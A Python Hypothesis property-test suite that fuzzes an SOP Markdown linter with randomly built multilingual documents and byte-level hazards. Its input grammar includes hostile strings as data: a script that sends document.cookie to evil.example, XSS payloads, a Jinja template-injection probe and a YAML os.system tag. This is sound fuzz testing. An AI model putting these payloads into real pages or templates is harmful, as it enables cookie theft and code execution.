"""Issue 9, "Prove it": a Hypothesis property suite on the parser and every rule.

Random SOPs are built from a grammar of SOP pieces (front matter with odd values, headings,
nested lists, tables, code spans and fences, backtick runs, HTML comments including
sop-lint-disable/enable, raw HTML, links, Jinja2 with unbalanced braces, emphasis) with
words in all four languages (English; Swedish and Norwegian with å ä ö æ ø; Telugu with
combining marks, ZWJ and ZWNJ), then written as bytes with CRLF, lone CR, NUL, a BOM,
invalid UTF-8, tabs and very long lines. Every rule is on (``select = ["ALL"]``) and a
branches file is configured, so the per-branch linting runs too.

Properties:

- (a) ``check_file`` never raises and never reports an internal error; ``sop-lint check``
  never exits 2 on a folder of such files;
- (b) every finding's position lies inside the file;
- (c) the same input gives the same findings, run twice in one process, and the same bytes
  of JSON output from ``--jobs 1`` and ``--jobs 2``;
- (d) the parser's document model covers the source in order (``model_problems``).

The checks themselves live in ``benchmarks/fuzz.py`` and are shared with the fuzzer and
with the replay of its saved cases (``test_fuzz_regressions.py``). A failure that is one of
``benchmarks.fuzz.KNOWN_BUGS`` (each routed, with a saved case marked strict xfail) is let
through here, and only those: everything else fails the test.

Hypothesis profiles, chosen with ``HYPOTHESIS_PROFILE``:

- ``ci`` (the default): derandomised, no example database, a bounded number of examples, so
  every run tries the same inputs and this file stays within about a minute on two cores;
- ``long``: random, with the example database, many more examples, for exploring:
  ``HYPOTHESIS_PROFILE=long python -m pytest tests/hostile/test_properties.py``.

(They are set here, not in a ``tests/hostile/conftest.py``: tests import the shared helpers
with ``from conftest import ...``, which a second conftest module would shadow.)
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from benchmarks.fuzz import (
    known_bug,
    make_project,
    model_problems,
    position_problems,
    source_lines,
)
from sop_lint.engine import check_file
from sop_lint.parser import parse_document

REPO = Path(__file__).resolve().parents[2]

settings.register_profile(
    "ci",
    derandomize=True,
    database=None,
    max_examples=60,
    deadline=None,  # time per file is the fuzzer's check (CPU time), not a flaky deadline
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
    print_blob=True,
)
settings.register_profile(
    "long",
    max_examples=2000,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
    print_blob=True,
)
PROFILE = settings.get_profile(os.environ.get("HYPOTHESIS_PROFILE", "ci"))

# -- the grammar ---------------------------------------------------------------------------

WORDS = {
    "en": [
        "Check",
        "the",
        "receipt",
        "phone",
        "customer",
        "was",
        "will",
        "must",
        "be",
        "refund",
        "Ask",
        "Enter",
        "printed",
        "e.g.",
        "don't",
        "08:45",
        "2,000",
        "SIM",
    ],
    "sv": [
        "Räkna",
        "pengarna",
        "i",
        "kassan",
        "Lås",
        "skåpet",
        "ska",
        "kunden",
        "öppna",
        "Ålands",
        "fönster",
        "blev",
        "kontrolleras",
        "t.ex.",
        "dagsrapporten",
    ],
    "nb": [
        "Tell",
        "kollene",
        "og",
        "sammenlign",
        "følgeseddelen",
        "Åpne",
        "kasse",
        "ødelagte",
        "varer",
        "skal",
        "bli",
        "mottatt",
        "bær",
        "«Reklamasjon»",
    ],
    "te": [
        "కస్టమర్",
        "రసీదును",
        "తీసుకోండి",
        "మొత్తాన్ని",
        "నమోదు",
        "చేయండి",
        "బిల్లు",
        "కంప్యూటర్\u200cలో",
        "ర్\u200dక",
        "క్ష",
        "ఇవ్వండి",
        "చేయాలి",
        "గారికి",
        "ఫోన్",
    ],
}
ODD = [
    "\t",
    "\u200d",
    "\u200c",
    "\u0c4d",
    "\u0301",
    "\u00a0",
    "\u2028",
    "\x0b",
    "\x0c",
    "\ufeff",
    "\0",
    "\x1b",
    "&amp;",
    "&#0;",
    "\\",
    "…",
    "—",
]
PUNCT = [".", ".", ".", "?", "!", ":", ";", ",", "", "…"]

word = st.one_of(
    st.sampled_from([w for ws in WORDS.values() for w in ws]),
    st.sampled_from(ODD),
    st.text(st.characters(codec="utf-8", exclude_categories=["Cs"]), min_size=1, max_size=6),
)

inline_piece = st.one_of(
    word,
    word,
    word,
    st.builds(lambda w: f"`{w}`", word),
    st.builds(lambda n, w: "`" * n + w, st.integers(1, 40), word),  # backtick runs
    st.builds(lambda w: f"*{w}*", word),
    st.builds(lambda w: f"**{w}", word),
    st.builds(lambda w: f"_{w}_", word),
    st.sampled_from(
        [
            "{% if branch.missing %}",
            "{{ branch.phone }}",
            "{{ branch.manager }}",
            "{{ branch.missing }}",
            "{{ org.name }}",
            "{{",
            "}}",
            "{{ branch.",
            "{% if branch.id == 'oslo-sentrum' %}",
            "{% endif %}",
            "{% raw %}",
            "{% endraw %}",
            "{{ '{{' }}",
            "{#",
            "#}",
            "{%",
            "%}",
            "{{ ''.__class__.__mro__ }}",
            "{{ (((((((((1))))))))) }}",
            "<!--",
            "-->",
            "<!-- note -->",
            "<!-- sop-lint-disable -->",
            "<!-- sop-lint-enable -->",
            "<!-- sop-lint-disable B001 I002 -->",
            "<!-- sop-lint-disable-next-line nonsense -->",
            "<!-- sop-lint-disable-file -->",
            "<!-- sop-lint-disable",
            "<script>alert(1)</script>",
            "<b>",
            "</b>",
            "<br>",
            "<img src=x onerror=alert(1)>",
            "<kbd>Ctrl</kbd>",
            "[link](https://example.com)",
            "[bad](javascript:alert(1))",
            "![image](a.png)",
            "<https://example.com>",
            "[^1]",
            "[ref]",
            "\\*",
            "&lt;",
            "~~gone~~",
        ]
    ),
)


@st.composite
def sentence(draw: st.DrawFn) -> str:
    parts = draw(st.lists(inline_piece, min_size=1, max_size=14))
    return " ".join(parts) + draw(st.sampled_from(PUNCT))


prose = st.lists(sentence(), min_size=1, max_size=4).map(" ".join)

FM_VALUES = st.sampled_from(
    [
        "",
        "NS-101",
        '"1.2"',
        "1.0",
        "1e999",
        "9" * 500,
        "2027-02-30",
        "2026-13-01",
        "2026-06-01",
        "2020-01-01",
        "effective",
        "draft",
        "[stockholm-city, oslo-sentrum]",
        "all",
        "[]",
        "{}",
        "[[[[[[[[[[]]]]]]]]]]",
        "no",
        "yes",
        "null",
        "~",
        "&a x",
        "*a",
        "!!python/object/apply:os.system ['true']",
        "'unclosed",
        '"unclosed',
        "|",
        ">",
        "{{ branch.name }}",
        "<script>alert(1)</script>",
        "1 year",
        "-1",
        ": :",
        "[sv, en]",
        "te",
        "xx",
        "Karin Lindqvist",
        "స్టోర్ మేనేజర్",
    ]
)
# Mostly values YAML reads (so the template rules see them), sometimes free prose.
fm_value = st.one_of(FM_VALUES, FM_VALUES, FM_VALUES, prose)
fm_key = st.sampled_from(
    [
        "id",
        "title",
        "version",
        "status",
        "owner",
        "author",
        "approved_by",
        "approved_on",
        "effective_date",
        "review_due",
        "review_interval",
        "applies_to",
        "lang",
        "language",
        "translation_of",
        "source_version",
        "revision",
        "x",
        "",
        "  id",
        "id id",
        "- id",
    ]
)


@st.composite
def front_matter(draw: st.DrawFn) -> list[str]:
    lines = ["---"]
    for key, value in draw(st.lists(st.tuples(fm_key, fm_value), max_size=10)):
        lines.append(f"{key}: {value}" if key else value)
    if draw(st.booleans()):
        lines += ["revisions:", "  - version: 1.0", "    date: 2026-01-01", "    - [nested"]
    if draw(st.integers(0, 9)):  # mostly closed
        lines.append(draw(st.sampled_from(["---", "...", "--- ", "----"])))
    return lines


@st.composite
def block(draw: st.DrawFn, long_lines: bool = True) -> list[str]:
    # Long lines are few here: the superlinear inputs of issue 9 are measured by
    # benchmarks (and the fuzzer's growth probe), and would only make this suite slow.
    kind = draw(st.integers(0, 9 if long_lines else 7))
    if kind == 8 and draw(st.integers(0, 3)):
        kind = 9
    if kind == 0:  # heading (ATX or setext)
        level = draw(st.integers(1, 7))
        text = draw(sentence())
        if draw(st.booleans()):
            return ["#" * level + " " + text + draw(st.sampled_from(["", " #", " ##"]))]
        return [text, draw(st.sampled_from(["===", "---", "= = ="]))]
    if kind in (1, 2):  # list, maybe nested, ordered or not
        lines = []
        for i in range(draw(st.integers(1, 6))):
            depth = draw(st.integers(0, 3))
            pad = draw(st.sampled_from(["  ", "   ", "    ", "\t"])) * depth
            marker = draw(st.sampled_from([f"{i + 1}.", f"{i + 1})", "-", "*", "+", "•", "1."]))
            lines.append(f"{pad}{marker} {draw(prose)}")
            if draw(st.integers(0, 4)) == 0:
                lines += ["", f"{pad}    {draw(prose)}"]
        return lines
    if kind == 3:  # table
        cols = draw(st.integers(1, 4))
        rows = [" | ".join(draw(st.lists(word, min_size=cols, max_size=cols)))]
        rows.append("|".join(["---"] * draw(st.integers(1, 4))))
        for _ in range(draw(st.integers(0, 4))):
            rows.append("| " + " | ".join(draw(st.lists(inline_piece, max_size=cols + 1))) + " |")
        return rows
    if kind == 4:  # fenced or indented code, maybe unclosed
        fence = draw(st.sampled_from(["```", "~~~", "````", "```jinja"]))
        body = draw(st.lists(sentence(), max_size=3))
        closing = [fence[:3]] if draw(st.integers(0, 4)) else []
        return [fence, *body, *closing]
    if kind == 5:  # HTML block or comment, maybe unclosed
        return draw(
            st.sampled_from(
                [
                    ["<div>", "Text inside a div.", "</div>"],
                    ["<!-- sop-lint-disable", "still a comment"],
                    ["<!--", "multi-line", "comment -->"],
                    ["<details><summary>Mer</summary>", "Ring {{ branch.phone }}.", "</details>"],
                    ["<script>", "fetch('https://evil.example/?' + document.cookie)", "</script>"],
                    ["<style>body{display:none}</style>"],
                ]
            )
        )
    if kind == 6:  # Jinja2 block structure
        return [
            draw(
                st.sampled_from(
                    [
                        "{% if branch.id == 'stockholm-city' %}",
                        "{% for x in y %}",
                        "{% raw %}",
                        "{%",
                        "{% set a = 1 %}",
                    ]
                )
            ),
            draw(prose),
            draw(st.sampled_from(["{% endif %}", "{% endfor %}", "{% endraw %}", "", "%}"])),
        ]
    if kind == 7:  # block quote / admonition
        return [draw(st.sampled_from(["> ", "!!! note", "??? tip", "> **Obs!** "])) + draw(prose)]
    if kind == 8:  # a very long line, or repeated furniture
        return draw(
            st.sampled_from(
                [
                    ["ord " * 3000],
                    ["పదం\u200c " * 1500],
                    ["`" * 40 + " a `b` c"],
                    ["{{" + " x" * 300],
                    ["Page 1 of 3"] * 3,
                ]
            )
        )
    return [draw(prose)]


@st.composite
def sop_text(draw: st.DrawFn, max_blocks: int = 10, long_lines: bool = True) -> str:
    lines: list[str] = []
    if draw(st.booleans()):
        lines += draw(front_matter())
    for b in draw(st.lists(block(long_lines), max_size=max_blocks)):
        lines += b
        lines.append("")
    return "\n".join(lines)


@st.composite
def sop_bytes(draw: st.DrawFn, max_blocks: int = 10, long_lines: bool = True) -> bytes:
    """An SOP as bytes: its lines joined by mixed line endings, with byte-level hazards."""
    text = draw(sop_text(max_blocks, long_lines))
    lines = text.split("\n")
    ending = draw(st.sampled_from(["\n", "\n", "\r\n", "\r", "mixed"]))
    if ending == "mixed":
        joined = "".join(line + draw(st.sampled_from(["\n", "\r\n", "\r"])) for line in lines)
    else:
        joined = ending.join(lines)
    data = joined.encode("utf-8")
    hazard = draw(st.integers(0, 9))
    if hazard == 0:
        data = b"\xef\xbb\xbf" + data
    elif hazard == 1:  # invalid UTF-8 somewhere
        at = draw(st.integers(0, len(data)))
        bad = draw(st.sampled_from([b"\xff", b"\xc3", b"\xe0\xb0", b"\xed\xa0\x80", b"\xc0\xaf"]))
        data = data[:at] + bad + data[at:]
    elif hazard == 2:  # a NUL after the first 8 KB (the binary check only reads 8 KB)
        data = data + b" " * max(0, 8200 - len(data)) + b"\0tail\n"
    elif hazard == 3:  # a NUL early: the file is binary
        at = draw(st.integers(0, len(data)))
        data = data[:at] + b"\0" + data[at:]
    return data


# -- fixtures ------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory):
    folder = tmp_path_factory.mktemp("properties")
    return folder, make_project(folder)


def _check(project, data: bytes):
    folder, config = project
    path = folder / "docs" / "sop.md"
    path.write_bytes(data)
    return check_file(path, config)


def _where(data: bytes) -> str:
    return f"input bytes: {data[:600]!r}{'...' if len(data) > 600 else ''}"


# -- (a) and (b): no exception, no internal error, every position inside the file ----------


@given(sop_bytes())
@settings(PROFILE)
def test_check_file_never_fails_and_positions_lie_inside_the_file(project, data: bytes) -> None:
    result = _check(project, data)
    errors = [e for e in result.errors if not known_bug(data, "internal-error", e)]
    assert not errors, f"internal error: {errors}; {_where(data)}"
    problems = position_problems(source_lines(data), result.findings)
    problems = [p for p in problems if not known_bug(data, "position", p)]
    assert not problems, f"{problems}; {_where(data)}"


# -- (c) same bytes out for the same input -------------------------------------------------


@given(sop_bytes())
@settings(PROFILE, max_examples=PROFILE.max_examples // 3 + 5)
def test_the_same_input_gives_the_same_findings(project, data: bytes) -> None:
    first = [f.to_dict() for f in _check(project, data).findings]
    second = [f.to_dict() for f in _check(project, data).findings]
    assert first == second, _where(data)


# -- (d) the document model covers the source ----------------------------------------------


@given(sop_text(), st.sampled_from(["en", "sv", "nb", "te"]))
@settings(PROFILE)
def test_the_document_model_covers_the_source_in_order(text: str, language: str) -> None:
    doc = parse_document(text, "sop.md", language)
    problems = [p for p in model_problems(doc) if not known_bug(text.encode(), "model", p)]
    assert not problems, f"{problems}; text: {text[:600]!r}"


# -- (a) and (c) through the command: exit code, and --jobs 1 against --jobs 2 -------------


def _run_cli(folder: Path, jobs: int) -> subprocess.CompletedProcess:
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    env.pop("SOP_LINT_LANGUAGETOOL_URL", None)
    return subprocess.run(
        [
            sys.executable,
            "-m",
            "sop_lint",
            "check",
            "docs",
            "--format",
            "json",
            "--jobs",
            str(jobs),
            "--today",
            "2026-06-01",
        ],
        cwd=folder,
        env=env,
        capture_output=True,
        timeout=300,
        check=False,
    )


@given(st.lists(sop_bytes(max_blocks=5, long_lines=False), min_size=26, max_size=28))
@settings(PROFILE, max_examples=PROFILE.max_examples // 60)  # ci: 1; long: 33
def test_jobs_1_and_jobs_2_give_the_same_bytes_and_never_exit_2(
    tmp_path_factory: pytest.TempPathFactory, files: list[bytes]
) -> None:
    # 26 files or more: fewer than PARALLEL_MIN_FILES (24) would never start workers.
    folder = tmp_path_factory.mktemp("jobs")
    make_project(folder)
    for i, data in enumerate(files):
        (folder / "docs" / f"sop-{i:02}.md").write_bytes(data)
    serial, parallel = _run_cli(folder, 1), _run_cli(folder, 2)
    stderr = serial.stderr.decode(errors="replace")
    if serial.returncode == 2:  # only for internal errors that are known bugs
        internal = [line for line in stderr.splitlines() if "internal error" in line]
        both = b"".join(files)
        assert internal, stderr[-2000:]
        assert all(known_bug(both, "internal-error", line) for line in internal), stderr[-2000:]
    else:
        assert serial.returncode in (0, 1), stderr[-2000:]
    assert parallel.returncode == serial.returncode
    assert parallel.stdout == serial.stdout
    assert parallel.stderr == serial.stderr
    assert json.loads(serial.stdout)["summary"]["files"] == len(files)
